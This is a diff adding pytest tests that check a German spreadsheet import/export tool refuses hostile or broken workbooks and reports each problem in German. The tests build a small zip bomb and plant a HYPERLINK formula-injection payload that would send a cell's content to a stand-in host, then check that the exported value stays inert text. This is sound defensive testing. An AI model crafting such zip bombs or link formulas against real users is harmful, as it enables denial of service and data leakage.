@@ -127,3 +127,216 @@ def test_unknown_measure_and_bad_date_are_reported(project: Path) -> None:
     report = import_workbook(path, project / "data", project, LANGUAGES)
     assert f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Beginn“: Das Datum „2024-13“ in „start“ gibt es nicht. " \
            "Bitte Tag und Monat prüfen." in report.problems
+
+
+# ---------------------------------------------------------------------------------------------
+# hostile and broken workbooks: a German message at file, sheet, row and column; nothing written
+
+FIELD_FILE = "data/fields/01-bildung-und-erziehung.yml"
+
+
+def _refused(project: Path, path: Path, expected: list[str]) -> None:
+    before = _snapshot(project)
+    report = import_workbook(path, project / "data", project, LANGUAGES)
+    assert report.problems == expected
+    assert report.changed == []
+    assert _snapshot(project) == before
+
+
+WHAT = ("Bitte die Datei aus „./klartext tabelle export“ verwenden und in Excel oder LibreOffice als "
+        "„Excel 2007-365 (.xlsx)“ speichern.")
+
+
+def test_file_that_is_not_a_workbook_is_refused(project: Path) -> None:
+    path = project / "konzept.xlsx"
+    path.write_text("Kennung;Titel\nvideotutorials;Neu\n", encoding="utf-8")  # a CSV renamed to .xlsx
+    _refused(project, path, [f"konzept.xlsx: Die Datei ist keine Excel-Tabelle im Format XLSX. {WHAT}"])
+
+
+def test_damaged_workbook_is_refused(project: Path) -> None:
+    import zipfile
+
+    path = project / "konzept.xlsx"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("xl/workbook.xml", "<workbook/>")  # a zip, but no spreadsheet in it
+    report = import_workbook(path, project / "data", project, LANGUAGES)
+    assert len(report.problems) == 1
+    assert report.problems[0].startswith("konzept.xlsx: Die Datei ist keine lesbare Excel-Tabelle (XLSX) (")
+    assert report.problems[0].endswith("Bitte in Excel oder LibreOffice öffnen und als „Excel 2007-365 "
+                                       "(.xlsx)“ speichern.")
+
+
+def test_zip_bomb_is_refused_before_anything_is_unpacked(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import zipfile
+
+    path = _export(project)
+    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/media/image1.bin", bytes(50_000_000))  # 50 MB of zeros in about 50 kB
+    assert path.stat().st_size < 200_000
+    opened = []
+    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, *args, **kwargs: opened.append(args) or 1 / 0)
+    _refused(project, path, [
+        "konzept.xlsx: Der Teil „xl/media/image1.bin“ ist 1029-fach gepackt (höchstens 200-fach): so packt keine "
+        f"Tabelle, so packt eine Zip-Bombe. Sie wurde nicht entpackt. {WHAT}"])
+    assert opened == []
+
+
+def test_workbook_unpacking_to_too_much_is_refused(project: Path) -> None:
+    import os
+    import zipfile
+
+    path = _export(project)
+    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_STORED) as archive:
+        for number in range(5):  # not packed at all, but 250 MB in total
+            archive.writestr(f"xl/media/image{number}.bin", os.urandom(1000))
+    # declared sizes are what the check reads: patch the central directory's sizes
+    with zipfile.ZipFile(path) as archive:
+        names = [info.filename for info in archive.infolist() if info.filename.startswith("xl/media/")]
+    assert len(names) == 5
+    from klartext import spreadsheet
+
+    original = zipfile.ZipFile.infolist
+
+    def declared(self: zipfile.ZipFile) -> list[zipfile.ZipInfo]:
+        parts = original(self)
+        for part in parts:
+            if part.filename in names:
+                part.file_size = part.compress_size = 50_000_000
+        return parts
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(zipfile.ZipFile, "infolist", declared)
+        refusal = spreadsheet._unreadable(path)
+    assert refusal is not None and refusal.startswith("konzept.xlsx: Die Datei würde entpackt 250 MB groß "
+                                                      "(höchstens 200 MB). Sie wurde nicht entpackt.")
+
+
+def test_formula_in_a_date_cell_is_refused_and_keeps_the_date(project: Path) -> None:
+    path = _export(project)
+    row = _set(path, MEASURES, "wiki-sprachfoerderung", "Beginn", "=DATE(2024,3,1)")
+    _refused(project, path, [
+        f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Beginn“: In der Zelle steht eine Formel („=DATE(2024,3,1)“). "
+        "Formeln werden nicht übernommen (ihr Ergebnis fehlt oft in der Datei und würde den Wert löschen). "
+        "Bitte den Wert selbst eintragen, ein Datum als Text, z. B. 2024-03."])
+    data, _ = load_concept(project / "data", LANGUAGES, project)
+    assert str(data.get("measures", "wiki-sprachfoerderung").schedule.start) == "2024"
+
+
+def test_formula_in_a_text_cell_is_refused(project: Path) -> None:
+    path = _export(project)
+    row = _set(path, MEASURES, "videotutorials", "Titel", '=CONCATENATE("Video","tutorials")')
+    _refused(project, path, [
+        f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Titel“: In der Zelle steht eine Formel "
+        "(„=CONCATENATE(\"Video\",\"tutorials\")“). Formeln werden nicht übernommen (ihr Ergebnis fehlt oft in "
+        "der Datei und würde den Wert löschen). Bitte den Wert selbst eintragen."])
+
+
+def test_duplicate_rows_are_refused_not_last_wins(project: Path) -> None:
+    path = _export(project)
+    book = load_workbook(path)
+    sheet = book[MEASURES]
+    first = _row(sheet, "Kennung", "videotutorials")
+    copy = [cell.value for cell in sheet[first]]
+    copy[4] = "umgesetzt"
+    sheet.append(copy)
+    book.save(path)
+    _refused(project, path, [
+        f"Tabelle „Maßnahmen“, Zeile {sheet.max_row}, Spalte „Kennung“: Die Maßnahme „videotutorials“ steht "
+        f"doppelt in der Tabelle (zuerst in Zeile {first}). Bitte eine der beiden Zeilen löschen."])
+
+
+def _long_summary(project: Path) -> str:
+    text = ("Satz " * 8_000).strip()  # 39,999 characters
+    path = project / FIELD_FILE
+    original = path.read_text(encoding="utf-8")
+    start = original.index("  - id: videotutorials")
+    summary = original.index("    summary: >-\n", start)
+    end = original.index("\n    state:", summary)
+    path.write_text(original[:summary] + f"    summary: {text}" + original[end:], encoding="utf-8")
+    data, _ = load_concept(project / "data", LANGUAGES, project)
+    assert data.get("measures", "videotutorials").summary.de == text
+    return text
+
+
+def _as_a_spreadsheet_program_saves(path: Path) -> None:
+    """Excel and LibreOffice keep at most 32,767 characters of a cell."""
+    book = load_workbook(path)
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and len(cell.value) > 32_767:
+                    cell.value = cell.value[:32_767]
+    book.save(path)
+
+
+def test_text_longer_than_a_cell_survives_the_round_trip(project: Path) -> None:
+    text = _long_summary(project)
+    path = _export(project)
+    book = load_workbook(path)
+    cell = book[MEASURES].cell(row=_row(book[MEASURES], "Kennung", "videotutorials"), column=4)
+    assert cell.value == ("[Dieser Text ist mit 39.999 Zeichen zu lang für eine Tabellenzelle (höchstens 32.767) "
+                          f"und bleibt unverändert. Bitte in {FIELD_FILE} bearbeiten.]")
+    assert len(text) == 39_999
+    _as_a_spreadsheet_program_saves(path)
+    before = _snapshot(project)
+    report = import_workbook(path, project / "data", project, LANGUAGES)
+    assert (report.problems, report.changed) == ([], [])
+    assert _snapshot(project) == before
+
+
+def test_edited_notice_of_a_too_long_text_is_refused(project: Path) -> None:
+    _long_summary(project)
+    path = _export(project)
+    row = _set(path, MEASURES, "videotutorials", "Kurzbeschreibung", "Kurz und neu.")
+    _refused(project, path, [
+        f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Kurzbeschreibung“: Dieser Text ist mit 39.999 Zeichen zu lang "
+        "für eine Tabellenzelle (höchstens 32.767); in der Tabelle stand nur ein Hinweis. Bitte den Text in "
+        f"{FIELD_FILE} bearbeiten und den Hinweis in der Zelle unverändert lassen."])
+
+
+def test_lists_sheet_has_no_live_formula_from_data(project: Path) -> None:
+    from helpers import edit
+
+    payload = '=HYPERLINK("https://example.org/?q="&A1,"Bildung")'
+    edit(project / FIELD_FILE, "    title: Bildung und Erziehung\n", f"    title: '{payload}'\n")
+    book = load_workbook(_export(project))
+    lists = book["Listen"]
+    cells = [cell for row in lists.iter_rows() for cell in row if cell.value == payload]
+    assert cells, "the field title is missing from the lists"
+    assert [cell.data_type for cell in cells] == ["s"] * len(cells)
+    assert [cell for row in lists.iter_rows() for cell in row if cell.data_type == "f"] == []
+
+
+def test_command_line_refuses_a_broken_workbook_without_traceback(tmp_path: Path) -> None:
+    import subprocess
+    import sys
+
+    from helpers import make_project
+
+    project = make_project(tmp_path)
+    (project / "konzept.xlsx").write_bytes(b"PK\x03\x04 kaputt")
+    before = _snapshot(project)
+    result = subprocess.run(
+        [sys.executable, "-m", "klartext.staff", "--config", str(project / "mkdocs.yml"), "tabelle", "import",
+         str(project / "konzept.xlsx")], capture_output=True, text=True, cwd=project,
+        env={"PYTHONPATH": str(ROOT / "hooks"), "PATH": "/usr/bin:/bin"})
+    assert result.returncode == 1
+    assert result.stderr == (f"konzept.xlsx: Die Datei ist keine Excel-Tabelle im Format XLSX. {WHAT}\n"
+                             "Nichts geschrieben: bitte die genannten Zellen korrigieren und erneut importieren.\n")
+    assert _snapshot(project) == before
+
+
+def test_export_to_a_missing_folder_says_so_in_german(tmp_path: Path) -> None:
+    import subprocess
+    import sys
+
+    from helpers import make_project
+
+    project = make_project(tmp_path)
+    result = subprocess.run(
+        [sys.executable, "-m", "klartext.staff", "--config", str(project / "mkdocs.yml"), "tabelle", "export",
+         "gibt-es-nicht/konzept.xlsx"], capture_output=True, text=True, cwd=project,
+        env={"PYTHONPATH": str(ROOT / "hooks"), "PATH": "/usr/bin:/bin"})
+    assert result.returncode == 1
+    assert result.stderr == ("gibt-es-nicht/konzept.xlsx kann nicht geschrieben werden: Diesen Ordner gibt es nicht "
+                             "(gibt-es-nicht/konzept.xlsx). Bitte einen vorhandenen Ordner angeben.\n")
